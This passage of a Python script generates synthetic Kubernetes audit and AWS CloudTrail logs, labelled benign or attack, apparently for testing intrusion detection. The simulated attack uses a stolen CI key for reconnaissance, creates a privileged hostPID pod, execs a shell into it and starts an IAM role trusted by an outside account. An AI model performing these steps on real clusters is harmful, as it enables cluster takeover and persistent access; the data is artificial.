                                   "securityContext": {"privileged": True}}],
                   "hostPID": True, "tolerations": [{"operator": "Exists"}]}
    req["status"] = {}
    resp = evil_pod("Pending")
    resp["metadata"]["managedFields"] = [{"manager": "kubectl-client-side-apply", "operation": "Update", "apiVersion": "v1",
                                          "time": "2026-03-14T08:49:10Z", "fieldsType": "FieldsV1",
                                          "fieldsV1": {"f:metadata": {"f:annotations": {}, "f:labels": {}},
                                                       "f:spec": {"f:containers": {}, "f:hostPID": {}, "f:tolerations": {}, "f:volumes": {}}}}]
    audit(T("08:49:10.482117"), uri=f"/api/v1/namespaces/{EVIL_NS}/pods?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
          verb="create", objref=oref("pods", EVIL_NS, EVIL_POD), code=201, level="RequestResponse",
          req=req, resp=resp, reason=REASON_CI, annotations=POD_CREATE_ANN, latency=(8, 20),
          step="k8s-create-privileged-pod", **A)
    # the scheduler binds it to the first node, the kubelet gets a token for it and reports it running
    audit(T("08:49:10.533208"), user=U_SCHED, ua=SCHED_UA, uri=f"/api/v1/namespaces/{EVIL_NS}/pods/{EVIL_POD}/binding",
          verb="create", objref=oref("pods", EVIL_NS, EVIL_POD, sub="binding"), code=201, level="RequestResponse",
          req={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": EVIL_POD, "namespace": EVIL_NS, "uid": EVIL_POD_UID, "creationTimestamp": None},
               "target": {"kind": "Node", "name": EVIL_NODE.name}},
          resp={"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success", "code": 201},
          reason=crb_reason("system:kube-scheduler", "system:kube-scheduler", "User", "system:kube-scheduler"),
          label="attack", step="k8s-pod-scheduled")
    audit(T("08:49:11.204519"), user=u_node(EVIL_NODE), ua=KUBELET_UA, src=[EVIL_NODE.ip],
          uri=f"/api/v1/namespaces/{EVIL_NS}/serviceaccounts/default/token", verb="create",
          objref=oref("serviceaccounts", EVIL_NS, "default", sub="token"), code=201, level="Request",
          req={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
               "spec": {"audiences": None, "expirationSeconds": 3607,
                        "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": EVIL_POD, "uid": EVIL_POD_UID}},
               "status": {"token": "", "expirationTimestamp": None}},
          annotations={"authentication.kubernetes.io/issued-credential-id": "JTI=e3a1c5d7-9b2f-4e6a-8c0d-1f3b5d7e9a2c"},
          label="attack", step="k8s-pod-scheduled")
    st = evil_pod("Running")["status"]
    patch = {"metadata": {"uid": EVIL_POD_UID},
             "status": {"$setElementOrder/conditions": [{"type": c["type"]} for c in st["conditions"]],
                        "conditions": st["conditions"][:4], "containerStatuses": st["containerStatuses"],
                        "hostIP": st["hostIP"], "hostIPs": st["hostIPs"], "phase": "Running",
                        "podIP": st["podIP"], "podIPs": st["podIPs"], "startTime": st["startTime"]}}
    audit(T("08:49:21.660391"), user=u_node(EVIL_NODE), ua=KUBELET_UA, src=[EVIL_NODE.ip],
          uri=f"/api/v1/namespaces/{EVIL_NS}/pods/{EVIL_POD}/status", verb="patch",
          objref=oref("pods", EVIL_NS, EVIL_POD, sub="status"), level="Request", req=patch,
          label="attack", step="k8s-pod-running")
    audit(T("08:49:40.918826"), uri=f"/api/v1/namespaces/{EVIL_NS}/pods/{EVIL_POD}", verb="get",
          objref=oref("pods", EVIL_NS, EVIL_POD), level="Request", reason=REASON_CI, step="k8s-create-privileged-pod", **A)
    # exec into it: one request, two stages (started when the stream opens, complete when it closes)
    exec_id = "4e2f1a9c-7b3d-4c8e-a6f0-5d1b9e3c7a2f"
    exec_uri = f"/api/v1/namespaces/{EVIL_NS}/pods/{EVIL_POD}/exec?command=sh&container=backup&stdin=true&stdout=true&tty=true"
    exec_ref = oref("pods", EVIL_NS, EVIL_POD, sub="exec")
    audit(T("08:50:05.377215"), uri=exec_uri, verb="create", objref=exec_ref, code=101, level="RequestResponse",
          stage="ResponseStarted", audit_id=exec_id, reason=REASON_CI, latency=(30, 60), step="k8s-exec", **A)
    audit(T("09:01:40.642087"), uri=exec_uri, verb="create", objref=exec_ref, code=101, level="RequestResponse",
          stage="ResponseComplete", audit_id=exec_id, received=T("08:50:05.377215"), reason=REASON_CI,
          step="k8s-exec", **A)
    audit(T("09:02:13.350448"), uri=f"/api/v1/namespaces/{EVIL_NS}/pods/{EVIL_POD}/log?container=backup&tailLines=20",
          verb="get", objref=oref("pods", EVIL_NS, EVIL_POD, sub="log"), level="Request", reason=REASON_CI,
          step="k8s-read-logs", **A)


def jenkins_audit():
    """ci-deployer used as intended by the old Jenkins (nightly feature-flag refresh)."""
    J = dict(user=copy.deepcopy(U_CI), src=[JENKINS_IP], ua=KUBECTL_JENKINS, label="benign", step="nightly-jenkins")
    audit(T("03:09:41.220871"), uri="/api/v1/namespaces/payments/configmaps/payments-feature-flags", verb="get",
          objref=oref("configmaps", "payments", "payments-feature-flags"), reason=REASON_CI, **J)
    audit(T("03:09:41.503914"), uri="/api/v1/namespaces/payments/configmaps/payments-feature-flags?fieldManager=kubectl-client-side-apply&fieldValidation=Strict",
          verb="patch", objref=oref("configmaps", "payments", "payments-feature-flags"), reason=REASON_CI, **J)
    audit(T("03:09:42.017730"), uri="/apis/apps/v1/namespaces/payments/deployments?limit=500", verb="list",
          objref=oref("deployments", "payments", group="apps"), level="Request", reason=REASON_CI, **J)


PAY_PODS = {}  # rollout -> [(name, uid, node, ip, created)]


def deploy_audit(hhmm, start, key):
    """A GitHub Actions rollout of payments-api: patch the Deployment, controllers do the rest."""
    image = PAY_IMAGES[hhmm]
    rs = PAY_RS[hhmm]
    gha = u_gha(key)
    G = dict(user=gha, src=[GHA_IP], ua=KUBECTL_GHA, label="benign", step=f"ci-deploy-{hhmm}")
    t = start
    audit(t, uri="/apis/apps/v1/namespaces/payments/deployments/payments-api", verb="get",
          objref=oref("deployments", "payments", "payments-api", group="apps"), level="Request", reason=REASON_GHA, **G)
    t += timedelta(milliseconds=412)
    patch = {"spec": {"template": {"spec": {"containers": [{"name": "payments-api", "image": image}]}}}}
    gen = 41 if hhmm == "0611" else 42
    dep = {"kind": "Deployment", "apiVersion": "apps/v1",
           "metadata": {"name": "payments-api", "namespace": "payments", "uid": PAY_DEPLOY_UID,
                        "resourceVersion": str(184300000 + gen * 1000), "generation": gen,
                        "creationTimestamp": "2025-06-03T08:22:41Z",
                        "labels": {"app.kubernetes.io/name": "payments-api"},
                        "annotations": {"deployment.kubernetes.io/revision": str(gen - 1)}},
           "spec": {"replicas": 3, "selector": {"matchLabels": {"app.kubernetes.io/name": "payments-api"}},
                    "template": {"metadata": {"labels": {"app.kubernetes.io/name": "payments-api"}},
                                 "spec": {"containers": [pay_container(image)], "serviceAccountName": "payments-api"}},
                    "strategy": {"type": "RollingUpdate", "rollingUpdate": {"maxUnavailable": "25%", "maxSurge": "25%"}},
                    "revisionHistoryLimit": 10, "progressDeadlineSeconds": 600},
           "status": {"observedGeneration": gen - 1, "replicas": 3, "updatedReplicas": 3, "readyReplicas": 3, "availableReplicas": 3}}
    audit(t, uri="/apis/apps/v1/namespaces/payments/deployments/payments-api?fieldManager=kubectl-set", verb="patch",
          objref=oref("deployments", "payments", "payments-api", group="apps"), level="RequestResponse",
          req=patch, resp=dep, reason=REASON_GHA, **G)
    t += timedelta(milliseconds=260)
    dc = u_sa("kube-system", "deployment-controller")
    rs_obj = {"kind": "ReplicaSet", "apiVersion": "apps/v1",
              "metadata": {"name": rs, "namespace": "payments", "labels": {"app.kubernetes.io/name": "payments-api", "pod-template-hash": rs.rsplit("-", 1)[1]},
                           "ownerReferences": [{"apiVersion": "apps/v1", "kind": "Deployment", "name": "payments-api", "uid": PAY_DEPLOY_UID, "controller": True, "blockOwnerDeletion": True}]},
              "spec": {"replicas": 1, "selector": {"matchLabels": {"app.kubernetes.io/name": "payments-api", "pod-template-hash": rs.rsplit("-", 1)[1]}}}}
    rs_resp = copy.deepcopy(rs_obj)
    rs_resp["metadata"].update({"uid": stable_uuid(rs), "resourceVersion": str(184300000 + gen * 1000 + 7),
                                "creationTimestamp": iso_s(t)})
    audit(t, user=dc, ua=f"kube-controller-manager/{SERVER_GIT} (linux/amd64) kubernetes/bc803b4/system:serviceaccount:kube-system:deployment-controller",
          uri="/apis/apps/v1/namespaces/payments/replicasets", verb="create", objref=oref("replicasets", "payments", rs, group="apps"),
          code=201, level="RequestResponse", req=rs_obj, resp=rs_resp,
          reason=crb_reason("system:controller:deployment-controller", "system:controller:deployment-controller", "ServiceAccount", "deployment-controller/kube-system"),
          label="benign", step=f"ci-deploy-{hhmm}")
    rsc = u_sa("kube-system", "replicaset-controller")
    pods = []
    for i, node in enumerate(NODES):
        t += timedelta(seconds=rng.randint(6, 14), milliseconds=rng.randint(0, 999))
        name = f"{rs}-{suffix5()}"
        p_uid = uid()
        ip = node.pod_prefix + str(rng.randint(20, 250))
        pod = pay_pod(rs, image, name, p_uid, t, node, ip, with_status=False)
        req = copy.deepcopy(pod)
        del req["metadata"]["uid"], req["metadata"]["resourceVersion"], req["metadata"]["name"]
        req["metadata"]["creationTimestamp"] = None
        resp = pay_pod(rs, image, name, p_uid, t, node, ip, phase="Pending")
        del resp["spec"]["nodeName"]
        audit(t, user=rsc, ua=f"kube-controller-manager/{SERVER_GIT} (linux/amd64) kubernetes/bc803b4/system:serviceaccount:kube-system:replicaset-controller",
              uri="/api/v1/namespaces/payments/pods", verb="create", objref=oref("pods", "payments", name), code=201,
              level="RequestResponse", req=req, resp=resp, annotations=POD_CREATE_ANN,
              reason=crb_reason("system:controller:replicaset-controller", "system:controller:replicaset-controller", "ServiceAccount", "replicaset-controller/kube-system"),
              label="benign", step=f"ci-deploy-{hhmm}")
        tb = t + timedelta(milliseconds=rng.randint(20, 60))
        audit(tb, user=U_SCHED, ua=SCHED_UA, uri=f"/api/v1/namespaces/payments/pods/{name}/binding", verb="create",
              objref=oref("pods", "payments", name, sub="binding"), code=201, level="RequestResponse",
              req={"kind": "Binding", "apiVersion": "v1", "metadata": {"name": name, "namespace": "payments", "uid": p_uid, "creationTimestamp": None},
                   "target": {"kind": "Node", "name": node.name}},
              resp={"kind": "Status", "apiVersion": "v1", "metadata": {}, "status": "Success", "code": 201},
              reason=crb_reason("system:kube-scheduler", "system:kube-scheduler", "User", "system:kube-scheduler"),
              label="benign", step=f"ci-deploy-{hhmm}")
        pods.append((name, p_uid, node, ip, t))
    # rollout status (watch) from the pipeline
    audit(t + timedelta(seconds=3), uri="/apis/apps/v1/namespaces/payments/deployments?fieldSelector=metadata.name%3Dpayments-api&watch=true",
          verb="watch", objref=oref("deployments", "payments", "payments-api", group="apps"), level="Request",
          received=start + timedelta(seconds=1), reason=REASON_GHA, **G)
    PAY_PODS[hhmm] = pods


# System and application pods that exist all day (used by the noise and by the snapshot).
EKS_ECR = f"602401143452.dkr.ecr.{REGION}.amazonaws.com"
DAY0 = T("00:00:00")


class RunningPod:
    def __init__(self, name, ns, node, ip, sa, image, created, kind, owner_name, extra=None):
        self.name, self.ns, self.node, self.ip, self.sa, self.image = name, ns, node, ip, sa, image
        self.created, self.kind, self.owner_name, self.extra = created, kind, owner_name, extra or {}
        self.uid = uid()

    def user(self):
        return u_sa(self.ns, self.sa, self.name, self.uid, self.node)


SYS_PODS = []
_ds_created = T("04:12:40", "2026-03-02")
for n in NODES:
    SYS_PODS.append(RunningPod(f"aws-node-{suffix5()}", "kube-system", n, n.ip, "aws-node",
                               f"{EKS_ECR}/amazon-k8s-cni:v1.19.2-eksbuild.1", _ds_created, "DaemonSet", "aws-node",
                               {"hostNetwork": True}))
    SYS_PODS.append(RunningPod(f"kube-proxy-{suffix5()}", "kube-system", n, n.ip, "kube-proxy",
                               f"{EKS_ECR}/eks/kube-proxy:v1.32.0-minimal-eksbuild.2", _ds_created, "DaemonSet", "kube-proxy",
                               {"hostNetwork": True, "privileged": True}))
_core_rs = "coredns-5b8cc885bc"
for n in NODES[1:]:
    SYS_PODS.append(RunningPod(f"{_core_rs}-{suffix5()}", "kube-system", n, n.pod_prefix + str(rng.randint(20, 250)),
                               "coredns", f"{EKS_ECR}/eks/coredns:v1.11.4-eksbuild.2", T("04:14:02", "2026-03-02"),
                               "ReplicaSet", _core_rs))
SYS_PODS.append(RunningPod(f"metrics-server-7d9c6b8f4c-{suffix5()}", "kube-system", NODES[1],
                           NODES[1].pod_prefix + str(rng.randint(20, 250)), "metrics-server",
                           "registry.k8s.io/metrics-server/metrics-server:v0.7.2", T("04:14:05", "2026-03-02"),
                           "ReplicaSet", "metrics-server-7d9c6b8f4c"))
SYS_PODS.append(RunningPod(f"cert-manager-6f8d5c9b7d-{suffix5()}", "cert-manager", NODES[2],
                           NODES[2].pod_prefix + str(rng.randint(20, 250)), "cert-manager",
                           "quay.io/jetstack/cert-manager-controller:v1.16.3", T("04:15:11", "2026-03-02"),
                           "ReplicaSet", "cert-manager-6f8d5c9b7d"))
CERT_MANAGER = SYS_PODS[-1]
COREDNS = [p for p in SYS_PODS if p.sa == "coredns"]
AWS_NODE = {p.node.name: p for p in SYS_PODS if p.sa == "aws-node"}
METRICS = [p for p in SYS_PODS if p.sa == "metrics-server"][0]
# The payments-api pods as they were before 06:11 (replaced by the rollouts).
OLD_PAY = [RunningPod(f"payments-api-5c7b8d9f64-{suffix5()}", "payments", n, n.pod_prefix + str(rng.randint(20, 250)),
                      "payments-api", PAY_IMAGES["old"], T("15:02:44", "2026-03-13"), "ReplicaSet", "payments-api-5c7b8d9f64")
           for n in NODES]


def pay_pods_at(t):
    if t >= T("07:49:00") and "0748" in PAY_PODS:
        src = PAY_PODS["0748"]
    elif t >= T("06:12:00") and "0611" in PAY_PODS:
        src = PAY_PODS["0611"]
    else:
        return OLD_PAY
    out = []
    for (name, p_uid, node, ip, created) in src:
        rp = RunningPod(name, "payments", node, ip, "payments-api", "", created, "ReplicaSet", "")
        rp.uid = p_uid
        out.append(rp)
    return out


KCM_REASON = crb_reason("system:kube-controller-manager", "system:kube-controller-manager", "User", "system:kube-controller-manager")
SCHED_REASON = crb_reason("system:kube-scheduler", "system:kube-scheduler", "User", "system:kube-scheduler")
NODE_CONDS = ["MemoryPressure", "DiskPressure", "PIDPressure", "Ready"]


def noise_event(t):
    """One background request at time t, picked like a (heavily thinned) real EKS audit stream."""
    n = rng.choice(NODES)
    kind = rng.choices(
        ["node-lease", "kcm-lease", "sched-lease", "node-status", "metrics", "certctl", "ccm", "coredns-watch",
         "aws-node", "token", "app-config", "cert-manager", "tokenreview", "endpointslice"],
        weights=[16, 7, 6, 6, 6, 2, 3, 4, 4, 6, 5, 3, 3, 3])[0]
    B = dict(label="benign", step="background")
    if kind == "node-lease":
        audit(t, user=u_node(n), ua=KUBELET_UA, src=[n.ip], verb="update",
              uri=f"/apis/coordination.k8s.io/v1/namespaces/kube-node-lease/leases/{n.name}?timeout=10s",
              objref=oref("leases", "kube-node-lease", n.name, group="coordination.k8s.io"), **B)
    elif kind in ("kcm-lease", "sched-lease"):
        who = "kube-controller-manager" if kind == "kcm-lease" else "kube-scheduler"
        audit(t, user=U_KCM if kind == "kcm-lease" else U_SCHED, ua=KCM_UA if kind == "kcm-lease" else SCHED_UA.replace("/scheduler", "/leader-election"),
              verb=rng.choice(["get", "update"]), uri=f"/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/{who}?timeout=5s",
              objref=oref("leases", "kube-system", who, group="coordination.k8s.io"),
              reason=KCM_REASON if kind == "kcm-lease" else SCHED_REASON, **B)
    elif kind == "node-status":
        patch = {"status": {"$setElementOrder/conditions": [{"type": c} for c in NODE_CONDS],
                            "conditions": [{"lastHeartbeatTime": iso_s(t), "type": c} for c in NODE_CONDS]}}
        audit(t, user=u_node(n), ua=KUBELET_UA, src=[n.ip], verb="patch", uri=f"/api/v1/nodes/{n.name}/status?timeout=10s",
              objref=oref("nodes", name=n.name, sub="status"), level="Request", req=patch, **B)
    elif kind == "metrics":
        dep = rng.choice(["vpc-resource-controller", "coredns", "metrics-server"])
        audit(t, user=U_METRICS, ua="eks-k8s-metrics/v0.0.0 (linux/amd64) kubernetes/$Format", verb="list",
              uri=f"/apis/apps/v1/namespaces/kube-system/deployments?fieldSelector=metadata.name%3D{dep}",
              objref=oref("deployments", "kube-system", dep, group="apps"), level="Request",
              reason=crb_reason("eks:k8s-metrics", "eks:k8s-metrics", "User", "eks:k8s-metrics"), **B)
    elif kind == "certctl":
        audit(t, user=U_CERTCTL, ua=f"eks-certificate-controller/{SERVER_GIT} (linux/amd64) kubernetes/$Format", verb="list",
              uri="/apis/certificates.k8s.io/v1/certificatesigningrequests?limit=500",
              objref=oref("certificatesigningrequests", group="certificates.k8s.io"), level="Request",
              reason=crb_reason("eks:certificate-controller", "eks:certificate-controller", "User", "eks:certificate-controller"), **B)
    elif kind == "ccm":
        audit(t, user=U_CCM, ua="aws-cloud-controller-manager/v0.0.0 (linux/amd64) kubernetes/$Format/cloud-node-lifecycle-controller",
              verb="get", uri=f"/api/v1/nodes/{n.name}", objref=oref("nodes", name=n.name), level="Request",
              reason=crb_reason("eks:cloud-controller-manager", "eks:cloud-controller-manager", "User", "eks:cloud-controller-manager"), **B)
    elif kind == "coredns-watch":
        p = rng.choice(COREDNS)
        audit(t, user=p.user(), ua="coredns/v1.11.4 (linux/amd64) kubernetes/$Format", src=[p.ip], verb="watch",
              uri=f"/apis/discovery.k8s.io/v1/endpointslices?allowWatchBookmarks=true&resourceVersion={rng.randint(184000000, 184400000)}&timeout=8m{rng.randint(0, 59)}s&timeoutSeconds={rng.randint(300, 540)}&watch=true",
              objref=oref("endpointslices", group="discovery.k8s.io"), received=t - timedelta(seconds=rng.randint(300, 540)),
              reason=crb_reason("system:coredns", "system:coredns", "ServiceAccount", "coredns/kube-system"), **B)
    elif kind == "aws-node":
        p = AWS_NODE[n.name]
        audit(t, user=p.user(), ua="aws-node/v1.19.2 (linux/amd64) kubernetes/$Format", src=[n.ip], verb="get",
              uri=f"/api/v1/nodes/{n.name}", objref=oref("nodes", name=n.name), level="Request",
              reason=crb_reason("aws-node", "aws-node", "ServiceAccount", "aws-node/kube-system"), **B)
    elif kind == "token":
        cands = [p for p in SYS_PODS + pay_pods_at(t) if p.node is n]
        p = rng.choice(cands)
        audit(t, user=u_node(n), ua=KUBELET_UA, src=[n.ip], verb="create",
              uri=f"/api/v1/namespaces/{p.ns}/serviceaccounts/{p.sa}/token", objref=oref("serviceaccounts", p.ns, p.sa, sub="token"),
              code=201, level="Request",
              req={"kind": "TokenRequest", "apiVersion": "authentication.k8s.io/v1", "metadata": {"creationTimestamp": None},
                   "spec": {"audiences": None, "expirationSeconds": 3607,
                            "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": p.name, "uid": p.uid}},
                   "status": {"token": "", "expirationTimestamp": None}},
              annotations={"authentication.kubernetes.io/issued-credential-id": f"JTI={uid()}"}, **B)
    elif kind == "app-config":
        p = rng.choice(pay_pods_at(t))
        audit(t, user=p.user(), ua="payments-api/2026.03 (linux/amd64) client-go/v0.32.1", src=[p.ip], verb="get",
              uri="/api/v1/namespaces/payments/configmaps/payments-feature-flags",
              objref=oref("configmaps", "payments", "payments-feature-flags"),
              reason=rb_reason("payments-api-config-reader", "payments", "payments-config-reader", "ServiceAccount", "payments-api/payments"), **B)
    elif kind == "cert-manager":
        p = CERT_MANAGER
        audit(t, user=p.user(), ua="cert-manager-controller/v1.16.3 (linux/amd64) cert-manager/leader-election", src=[p.ip],
              verb="update", uri="/apis/coordination.k8s.io/v1/namespaces/kube-system/leases/cert-manager-controller?timeout=15s",
              objref=oref("leases", "kube-system", "cert-manager-controller", group="coordination.k8s.io"),
              reason=rb_reason("cert-manager:leaderelection", "kube-system", "cert-manager:leaderelection", "ServiceAccount", "cert-manager/cert-manager").replace('ClusterRole "cert-manager:leaderelection"', 'Role "cert-manager:leaderelection"'), **B)
    elif kind == "tokenreview":
        p = METRICS
        audit(t, user=p.user(), ua="metrics-server/v0.7.2 (linux/amd64) kubernetes/$Format", src=[p.ip], verb="create",
              uri="/apis/authentication.k8s.io/v1/tokenreviews", objref=oref("tokenreviews", group="authentication.k8s.io"),
              code=201, reason=crb_reason("metrics-server:system:auth-delegator", "system:auth-delegator", "ServiceAccount", "metrics-server/kube-system"), **B)
    else:
        es = rng.choice(["payments-api-" + suffix5(), "kube-dns-" + suffix5()])
        ns = "payments" if es.startswith("payments") else "kube-system"
        audit(t, user=u_sa("kube-system", "endpointslice-controller"),
              ua=f"kube-controller-manager/{SERVER_GIT} (linux/amd64) kubernetes/bc803b4/system:serviceaccount:kube-system:endpointslice-controller",
              verb="update", uri=f"/apis/discovery.k8s.io/v1/namespaces/{ns}/endpointslices/{es}",
              objref=oref("endpointslices", ns, es, group="discovery.k8s.io"),
              reason=crb_reason("system:controller:endpointslice-controller", "system:controller:endpointslice-controller", "ServiceAccount", "endpointslice-controller/kube-system"), **B)


AUDIT_OFF = T("09:08:31")   # the logging update (09:05:12) took effect here; nothing is logged after it


def background_audit():
    t = DAY0 + timedelta(seconds=rng.randint(5, 60))
    while t < AUDIT_OFF:
        busy = T("08:35:00") <= t
        noise_event(t + timedelta(microseconds=rng.randint(0, 999999)))
        t += timedelta(seconds=rng.randint(15, 45) if busy else rng.randint(180, 320))


# ---------------------------------------------------------------------------------------------
# CloudTrail
# ---------------------------------------------------------------------------------------------
CT = []   # (record, label, step)

AWSCLI = "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-26-generic exe/x86_64.ubuntu.22 prompt/off command/"
AWSCLI_JENKINS = "aws-cli/2.13.25 Python/3.11.6 Linux/5.15.0-1051-aws exe/x86_64.ubuntu.22 prompt/off command/"
GHA_UA = "aws-sdk-js/3.726.1 ua/2.1 os/linux#6.8.0-1021-azure lang/js md/nodejs#20.18.1 api/sts#3.726.1 m/E,e"
ECR_PROVIDER_UA = "aws-sdk-go-v2/1.32.7 ua/2.1 os/linux lang/go#1.23.4 md/GOOS#linux md/GOARCH#amd64 api/ecr#1.38.3 m/E ecr-credential-provider"
CNI_UA = "aws-sdk-go-v2/1.32.7 ua/2.1 os/linux lang/go#1.23.4 md/GOOS#linux md/GOARCH#amd64 api/ec2#1.198.1 m/E amazon-vpc-cni-k8s/v1.19.2"
CONSOLE_UA = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/133.0.0.0 Safari/537.36"


def id_ci(key):
    return {"type": "IAMUser", "principalId": CI_USER_ID, "arn": CI_USER_ARN, "accountId": ACCOUNT,
            "accessKeyId": key, "userName": CI_USER}


def id_role(role, role_id, session, key, created, extra_ctx=None, mfa="false"):
    ctx = {"sessionIssuer": {"type": "Role", "principalId": role_id, "arn": f"arn:aws:iam::{ACCOUNT}:role/{role}",
                             "accountId": ACCOUNT, "userName": role},
           "attributes": {"creationDate": iso_s(created), "mfaAuthenticated": mfa}}
    if extra_ctx:
        ctx.update(extra_ctx)
    return {"type": "AssumedRole", "principalId": f"{role_id}:{session}",
            "arn": f"arn:aws:sts::{ACCOUNT}:assumed-role/{role}/{session}", "accountId": ACCOUNT,
            "accessKeyId": key, "sessionContext": ctx}


def id_gha(key, created):
    return id_role(GHA_ROLE, GHA_ROLE_ID, GHA_SESSION, key, created, {"webIdFederationData": {
        "federatedProvider": f"arn:aws:iam::{ACCOUNT}:oidc-provider/token.actions.githubusercontent.com", "attributes": {}}})


def id_node(n, created):
    return id_role(NODE_ROLE, NODE_ROLE_ID, n.instance, n.asia, created, {"ec2RoleDelivery": "2.0"})


def id_eks_slr(created):
    i = id_role("aws-service-role/eks.amazonaws.com/AWSServiceRoleForAmazonEKS", EKS_SLR_ID, "AmazonEKS",
                akid("ASIA"), created)
    i["sessionContext"]["sessionIssuer"]["arn"] = f"arn:aws:iam::{ACCOUNT}:role/aws-service-role/eks.amazonaws.com/AWSServiceRoleForAmazonEKS"
    i["sessionContext"]["sessionIssuer"]["userName"] = "AWSServiceRoleForAmazonEKS"
    i["arn"] = f"arn:aws:sts::{ACCOUNT}:assumed-role/AWSServiceRoleForAmazonEKS/AmazonEKS"
    i["invokedBy"] = "eks.amazonaws.com"
    return i


def host_for(source):
    svc = source.split(".")[0]
    if svc == "iam":
        return "iam.amazonaws.com"
    if svc == "ecr":
        return f"api.ecr.{REGION}.amazonaws.com"
    return f"{svc}.{REGION}.amazonaws.com"


def ct(t, identity, source, name, params=None, resp=None, ip=None, ua=None, read_only=True, version="1.09",
       label="benign", step=None, resources=None, extra=None, tls=True, console=False, after=None):
    r = {"eventVersion": version, "userIdentity": identity, "eventTime": iso_s(t), "eventSource": source,
         "eventName": name, "awsRegion": REGION, "sourceIPAddress": ip, "userAgent": ua,
         "requestParameters": params, "responseElements": resp}
    if extra:
        r.update(extra)
    r["requestID"] = uid()
    r["eventID"] = uid()
    r["readOnly"] = read_only
    if resources:
        r["resources"] = resources
    r["eventType"] = "AwsApiCall"
    r["managementEvent"] = True
    r["recipientAccountId"] = ACCOUNT
    if after:
        r.update(after)
    r["eventCategory"] = "Management"
    if tls:
        r["tlsDetails"] = {"tlsVersion": "TLSv1.3", "cipherSuite": "TLS_AES_128_GCM_SHA256",
                           "clientProvidedHostHeader": host_for(source)}
    if console:
        r["sessionCredentialFromConsole"] = "true"
    CT.append((r, label, step))
    return r


def fake_session_token():
    raw = bytes(rng.getrandbits(8) for _ in range(300))
    return "IQoJb3JpZ2luX2VjE" + base64.b64encode(raw).decode()


def gha_deploy_trail(start, hhmm):
    """A GitHub Actions run: OIDC federation, push the image to ECR, read the cluster for kubectl."""
    created = start
    key = akid("ASIA")
    sub = "repo:example-org/payments-api:ref:refs/heads/main"
    ct(start, {"type": "WebIdentityUser",
               "principalId": f"arn:aws:iam::{ACCOUNT}:oidc-provider/token.actions.githubusercontent.com:sts.amazonaws.com:{sub}",
               "userName": sub, "identityProvider": f"arn:aws:iam::{ACCOUNT}:oidc-provider/token.actions.githubusercontent.com"},
       "sts.amazonaws.com", "AssumeRoleWithWebIdentity",
       params={"roleArn": GHA_ROLE_ARN, "roleSessionName": GHA_SESSION, "durationSeconds": 3600},
       resp={"credentials": {"accessKeyId": key, "sessionToken": fake_session_token(),
                             "expiration": iam_date(start + timedelta(hours=1))},
             "subjectFromWebIdentityToken": sub,
             "assumedRoleUser": {"assumedRoleId": f"{GHA_ROLE_ID}:{GHA_SESSION}", "arn": GHA_STS_ARN},
             "provider": f"arn:aws:iam::{ACCOUNT}:oidc-provider/token.actions.githubusercontent.com",
             "audience": "sts.amazonaws.com"},
       ip=GHA_IP, ua=GHA_UA, version="1.08", step=f"ci-deploy-{hhmm}",
       resources=[{"accountId": ACCOUNT, "type": "AWS::IAM::Role", "ARN": GHA_ROLE_ARN}],
       extra={"additionalEventData": {"identityProviderConnectionVerificationMethod": "IAMTrustStore"}})
    ident = id_gha(key, created)
    t = start + timedelta(seconds=3)
    ct(t, ident, "ecr.amazonaws.com", "GetAuthorizationToken", params={}, resp=None, ip=GHA_IP,
       ua=GHA_UA.replace("api/sts", "api/ecr"), version="1.08", step=f"ci-deploy-{hhmm}")
    t += timedelta(seconds=rng.randint(9, 20))
    ct(t, ident, "ecr.amazonaws.com", "PutImage",
       params={"repositoryName": "payments-api", "imageTag": PAY_IMAGES[hhmm].split(":")[1],
               "registryId": ACCOUNT, "imageManifestMediaType": "application/vnd.oci.image.manifest.v1+json",
               "imageManifest": "HIDDEN_DUE_TO_SECURITY_REASONS"},
       resp={"image": {"registryId": ACCOUNT, "repositoryName": "payments-api",
                       "imageId": {"imageDigest": "sha256:" + hashlib.sha256(PAY_IMAGES[hhmm].encode()).hexdigest(),
                                   "imageTag": PAY_IMAGES[hhmm].split(":")[1]},
                       "imageManifestMediaType": "application/vnd.oci.image.manifest.v1+json"}},
       ip=GHA_IP, ua="docker/27.4.1 go/go1.22.10 git-commit/c710b88 kernel/6.8.0-1021-azure os/linux arch/amd64",
       read_only=False, version="1.08", step=f"ci-deploy-{hhmm}",
       resources=[{"accountId": ACCOUNT, "ARN": f"arn:aws:ecr:{REGION}:{ACCOUNT}:repository/payments-api"}])
    t += timedelta(seconds=rng.randint(3, 8))
    ct(t, ident, "eks.amazonaws.com", "DescribeCluster", params={"name": CLUSTER}, ip=GHA_IP,
       ua=GHA_UA.replace("api/sts#3.726.1", "api/eks#3.726.1"), step=f"ci-deploy-{hhmm}")
    return key, t


def attack_trail():
    A = dict(ip=ATTACKER_IP, label="attack")
    ci = id_ci(CI_KEY)
    ct(T("08:41:07"), ci, "sts.amazonaws.com", "GetCallerIdentity", ua=AWSCLI + "sts.get-caller-identity",
       version="1.08", step="aws-recon", **A)
    ct(T("08:41:52"), ci, "eks.amazonaws.com", "ListClusters", ua=AWSCLI + "eks.list-clusters", step="aws-recon", **A)
    ct(T("08:42:10"), ci, "eks.amazonaws.com", "DescribeCluster", params={"name": CLUSTER},
       ua=AWSCLI + "eks.update-kubeconfig", step="aws-recon", **A)
    ct(T("08:42:31"), ci, "eks.amazonaws.com", "ListAccessEntries", params={"name": CLUSTER},
       ua=AWSCLI + "eks.list-access-entries", step="aws-recon", **A)
    trust = {"Version": "2012-10-17", "Statement": [{"Effect": "Allow", "Principal": {"AWS": f"arn:aws:iam::{ATTACKER_ACCOUNT}:root"},
                                                     "Action": "sts:AssumeRole"}]}
    trust_s = json.dumps(trust, separators=(",", ":"))
    t_role = T("08:55:21")
    ct(t_role, ci, "iam.amazonaws.com", "CreateRole",
       params={"roleName": EVIL_ROLE, "description": "EKS backup operator", "assumeRolePolicyDocument": trust_s},
       resp={"role": {"path": "/", "roleName": EVIL_ROLE, "roleId": EVIL_ROLE_ID, "arn": EVIL_ROLE_ARN,
